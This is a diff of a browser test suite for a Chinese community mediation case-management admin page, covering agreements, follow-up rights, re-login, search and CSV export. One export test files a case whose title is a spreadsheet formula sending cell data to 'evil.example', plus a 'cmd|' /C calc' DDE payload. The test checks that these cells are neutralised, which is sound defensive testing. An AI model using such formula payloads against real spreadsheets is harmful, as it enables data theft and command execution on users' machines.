@@ -108,9 +108,11 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await p.getByRole('link', { name: '查看 / 打印调解协议书' }).click();
     await p.getByRole('heading', { name: '人民调解协议书' }).waitFor();
     const agreement = await p.locator('article.agreement').innerText();
-    for (const text of ['申请人：吴建华，联系电话 13912340001', '被申请人：郑丽', '一、郑丽负责维修卫生间防水层', '二、郑丽赔偿', '维修完成后当面付清赔偿款', '张桂兰（联户长）', '幸福社区人民调解委员会（印章）']) {
+    for (const text of ['申请人：吴建华，联系电话 13912340001', '被申请人：郑丽', '一、郑丽负责维修卫生间防水层', '二、郑丽赔偿', '维修完成后当面付清赔偿款', '幸福社区人民调解委员会（印章）']) {
       expect(agreement).toContain(text);
     }
+    // The signature line says 人民调解员 already: the mediator's name alone, not a second post in brackets.
+    expect(await p.locator('.signatures p', { hasText: '人民调解员（签名）' }).locator('.sign-name').innerText()).toBe('张桂兰');
     await p.emulateMedia({ media: 'print' });
     expect(await p.getByRole('button', { name: '打印' }).isVisible()).toBe(false);
     await screenshot(p, 'agreement-print');
@@ -287,7 +289,11 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
       await f.getByLabel('结果').selectOption({ label: '部分化解' });
       await f.getByLabel('办理情况').fill('器材已修复，费用分担仍有分歧。');
     });
-    await perform(compound, 'follow_up', (f) => f.getByLabel('基本满意').check());
+    // 回访 is the level above's: the compound that resolved it is not offered it.
+    expect(await actions(compound)).not.toContain('follow_up');
+    await open(community, a.id);
+    await perform(community, 'follow_up', (f) => f.getByLabel('基本满意').check());
+    await open(compound, a.id);
     await perform(compound, 'close');
     // Filed away: only minutes of a session held may still be written down (decide.ts allows it).
     expect(await actions(compound)).toEqual(['record_minutes']);
@@ -392,19 +398,24 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(events.body.items.map((e: { type: string }) => e.type)).toEqual(['received', 'accepted']);
   });
 
-  it('goes back to the sign-in page with a message when the token is refused', async () => {
+  it('asks to sign in again, over the page, when the token is refused', async () => {
     const p = await page();
     await signIn(p, stack.url, 'building-mediator', stack.password);
     await p.evaluate(() => {
       const key = 'maodiaotong.session';
-      const session = JSON.parse(sessionStorage.getItem(key) ?? '{}') as { expiresAt: string };
-      sessionStorage.setItem(key, JSON.stringify({ ...session, token: 'not-a-token' }));
+      const session = JSON.parse(localStorage.getItem(key) ?? '{}') as { expiresAt: string };
+      localStorage.setItem(key, JSON.stringify({ ...session, token: 'not-a-token' }));
     });
     expected = [/status of 401/];
-    await p.reload();
-    await p.getByText('登录已过期或已在别处退出，请重新登录。').waitFor();
-    await p.getByLabel('用户名').waitFor();
-    expect(await p.evaluate(() => sessionStorage.getItem('maodiaotong.session'))).toBeNull();
+    await p.getByRole('button', { name: '刷新' }).click();
+    const dialog = p.getByRole('dialog', { name: '请重新登录' });
+    await dialog.getByText('登录已过期，请重新登录').waitFor();
+    expect(await dialog.getByLabel('用户名').inputValue()).toBe('building-mediator');
+    expect(await p.evaluate(() => localStorage.getItem('maodiaotong.session'))).toBeNull();
+    await dialog.getByLabel('密码').fill(stack.password);
+    await dialog.getByRole('button', { name: '登录' }).click();
+    await dialog.waitFor({ state: 'detached' });
+    await p.getByRole('heading', { name: '我的待办' }).waitFor();
   });
 
   it('an admin creates an account for a new 联户长, moves it to another building and disables it', async () => {
@@ -541,7 +552,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const second = await fileCase({ center: 'welfare', description: '申请临时救助。', reporter: { phone: '13912340031' }, location: { unitId: 'hp-hx-jy-1' } });
     const p = await page();
     await signIn(p, stack.url, 'community-mediator', stack.password);
-    const box = p.getByRole('searchbox', { name: '按编号或电话查找案件' });
+    const box = p.getByRole('searchbox', { name: '按编号、电话、工单号或关键词查找案件' });
 
     await box.fill(first.trackingNo.toLowerCase());
     await box.press('Enter');
@@ -558,13 +569,15 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(await p.locator('table.cases').innerText()).not.toContain(second.trackingNo);
     await screenshot(p, 'search-phone');
 
-    await box.fill('幸福社区');
+    // Words search the titles and descriptions in the jurisdiction.
+    await box.fill('停车位');
     await box.press('Enter');
-    await p.getByRole('search').getByRole('alert').filter({ hasText: '请输入 10 位案件编号，或反映人的电话号码' }).waitFor();
+    await p.getByRole('heading', { name: '查找：停车位' }).waitFor();
+    await expect.poll(() => p.locator('table.cases').innerText()).toContain(first.trackingNo);
   });
 
   it('exports the filtered subtree as a CSV for the monthly report, without the reporter\'s details', async () => {
-    const filed = await fileCase({ title: '宠物噪音扰邻', description: '邻居家的狗夜间吠叫。', reporter: { name: '卫女士', phone: '13912340041' }, location: { unitId: 'hp-xf-cy-1' } });
+    const filed = await fileCase({ externalId: 'WO-CSV-1', title: '宠物噪音扰邻', description: '邻居家的狗夜间吠叫。', reporter: { name: '卫女士', phone: '13912340041' }, location: { unitId: 'hp-xf-cy-1' } });
     // A description written as a spreadsheet formula, as an attacker would send it.
     const formula = await fileCase({ title: '=HYPERLINK("http://evil.example/?x="&A1,"详情")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', location: { unitId: 'hp-xf-cy-1' } });
     const p = await page();
@@ -574,7 +587,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const { name, text } = await downloadBy(p, p.getByRole('button', { name: '导出 CSV' }));
     expect(name).toMatch(/^辖区案件-\d{4}-\d{2}-\d{2}\.csv$/);
     const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\n');
-    expect(lines[0]).toBe('编号,受理时间,来源,中心,诉求,内容摘要,发生单位,当前单位,当前层级,状态,期限,超时,上报次数,风险,办结时间,办结结果,回访满意度');
+    expect(lines[0]).toBe('编号,12345工单号,受理时间,来源,中心,诉求,内容摘要,发生单位,当前单位,当前层级,状态,期限,超时,上报次数,风险,办结时间,办结结果,回访满意度');
     const token = await login(stack, 'community-mediator');
     let total = 0;
     let cursor: string | null = null;
@@ -584,8 +597,13 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
       cursor = reply.body.cursor;
     } while (cursor);
     expect(lines).toHaveLength(total + 1);
-    const row = lines.find((l) => l.startsWith(`${filed.trackingNo},`));
+    const row = lines.find((l) => l.startsWith(`${filed.trackingNo},`))!;
     expect(row).toContain(',12345 热线,民事调解,宠物噪音扰邻,邻居家的狗夜间吠叫。,和平街道 幸福社区 翠苑小区 1栋,和平街道 幸福社区 翠苑小区 1栋,楼栋,待签收,');
+    // Dates a spreadsheet reads and sorts, in China time; the hotline's work-order number beside ours.
+    const state = (await call(stack, 'GET', `/v1/cases/${filed.id}`)).body;
+    const china = (iso: string) => new Date(Date.parse(iso) + 8 * 3_600_000).toISOString().slice(0, 16).replace('T', ' ');
+    expect(row.startsWith(`${filed.trackingNo},WO-CSV-1,${china(state.createdAt)},`)).toBe(true);
+    expect(row).toMatch(/,\d{4}-\d{2}-\d{2} \d{2}:\d{2},/);
     expect(text).not.toContain('13912340041');
     expect(text).not.toContain('卫女士');
     // Neutralised: the cells start with ', so Excel and WPS show them as text and run nothing.
@@ -617,7 +635,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const result = p.locator('section.track-result');
     await result.getByRole('heading', { name: `编号 ${filed.trackingNo} 办理中` }).waitFor();
     const text = await result.innerText();
-    for (const expectedText of ['路灯不亮', '民生保障', '1栋（楼栋）', '答复：已联系物业，明天维修。', '工作人员已签收，正在办理', '诉求已受理，由1栋办理']) {
+    for (const expectedText of ['路灯不亮', '民生保障', '和平街道 幸福社区 阳光小区 1栋（楼栋）', '答复：已联系物业，明天维修。', '工作人员已签收，正在办理', '诉求已受理，由和平街道 幸福社区 阳光小区 1栋办理']) {
       expect(text).toContain(expectedText);
     }
     expect(text).not.toContain('物业经理电话');
